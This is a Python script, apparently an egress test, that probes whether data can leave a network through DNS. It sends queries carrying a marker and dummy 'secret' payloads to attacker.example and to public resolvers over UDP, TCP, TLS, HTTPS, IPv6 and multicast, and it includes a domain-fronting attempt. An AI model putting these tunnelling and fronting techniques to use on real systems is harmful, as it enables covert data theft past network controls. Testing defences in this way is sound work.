"""Tries to carry data out in names. Prints what each attempt was answered: a code of DNS, a status of HTTP, or an error.

Arguments: a listed name; a mark that is part of every name that is asked for.
"""

import errno
import json
import os
import socket
import ssl
import struct
import sys

listed, mark = sys.argv[1:]
CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
TYPES = {"A": 1, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}


def wire(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def question(name, kind, option=b""):
    head = struct.pack("!6H", os.getpid() & 0xFFFF, 0x0100, 1, 0, 0, 1 if option else 0)
    extra = b""
    if option:
        data = struct.pack("!HH", 65001, len(option)) + option
        extra = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(data)) + data
    return head + wire(name) + struct.pack("!HH", kind, 1) + extra


def verdict(answer):
    _, flags, _, answers = struct.unpack_from("!4H", answer)
    code = CODES[flags & 15]
    return f"{code} with {answers}" if answers else code


def udp(packet, server, port=53):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(5 if port == 53 else 0.5)
        channel.bind(("", 0))
        channel.sendto(packet, (server, port))
        return verdict(channel.recvfrom(4096)[0])


def tcp(packet, server, port=53):
    with socket.create_connection((server, port), 5) as channel:
        channel.sendall(struct.pack("!H", len(packet)) + packet)
        with channel.makefile("rb") as file:
            (length,) = struct.unpack("!H", file.read(2))
            return verdict(file.read(length))


def https(server, name, host):
    context = ssl.create_default_context()
    with socket.create_connection((server, 443), 5) as channel:
        with context.wrap_socket(channel, server_hostname=name) as secure:
            secure.sendall(f"GET /dns-query?dns={mark} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            return secure.recv(4096).split(b" ")[1].decode()


def outcome(attempt):
    try:
        return attempt()
    except ssl.SSLError as error:
        return "no TLS"
    except socket.gaierror:
        return "no such name"
    except OSError as error:
        return errno.errorcode.get(error.errno, "silence")


def asks(prefix, kind):
    return lambda: udp(question(f"{prefix}-{mark}.attacker.example", kind), "192.0.2.53")


attempts = {kind: asks(kind.lower(), number) for kind, number in TYPES.items()}
attempts |= {
    "EDNS payload": lambda: udp(question(f"edns-{mark}.attacker.example", 16, b"secret" * 50), "8.8.8.8"),
    "EDNS payload, large": lambda: udp(question(f"large-{mark}.attacker.example", 16, b"secret" * 100), "8.8.8.8"),
    "over TCP": lambda: tcp(question(f"tcp-{mark}.attacker.example", 16), "8.8.4.4"),
    "over IPv6": lambda: tcp(question(f"six-{mark}.attacker.example", 16), "2001:4860:4860::8888"),
    "below a listed name": lambda: udp(question(f"below-{mark}.{listed}", 1), "192.0.2.53"),
    "as long as it may be": lambda: udp(question(f"long-{mark}." + "c2VjcmV0." * 20 + "attacker.example", 1), "192.0.2.53"),
    "listed": lambda: udp(question(listed, 1), "192.0.2.53"),
    "listed, TXT": lambda: udp(question(listed, 16), "192.0.2.53"),
    "over TLS": lambda: tcp(question(f"tls-{mark}.attacker.example", 1), "8.8.8.8", 853),
    "multicast": lambda: udp(question(f"{mark}.local", 1), "224.0.0.251", 5353),
    "over HTTPS, by name": lambda: https("dns.attacker.example", "dns.attacker.example", "dns.attacker.example"),
    "over HTTPS, by address": lambda: https("8.8.8.8", "dns.google", "dns.google"),
    "over HTTPS, as another host": lambda: https(listed, listed, "dns.google"),
    "over HTTPS, listed": lambda: https(listed, listed, listed),
}
print(json.dumps({name: outcome(attempt) for name, attempt in attempts.items()}))
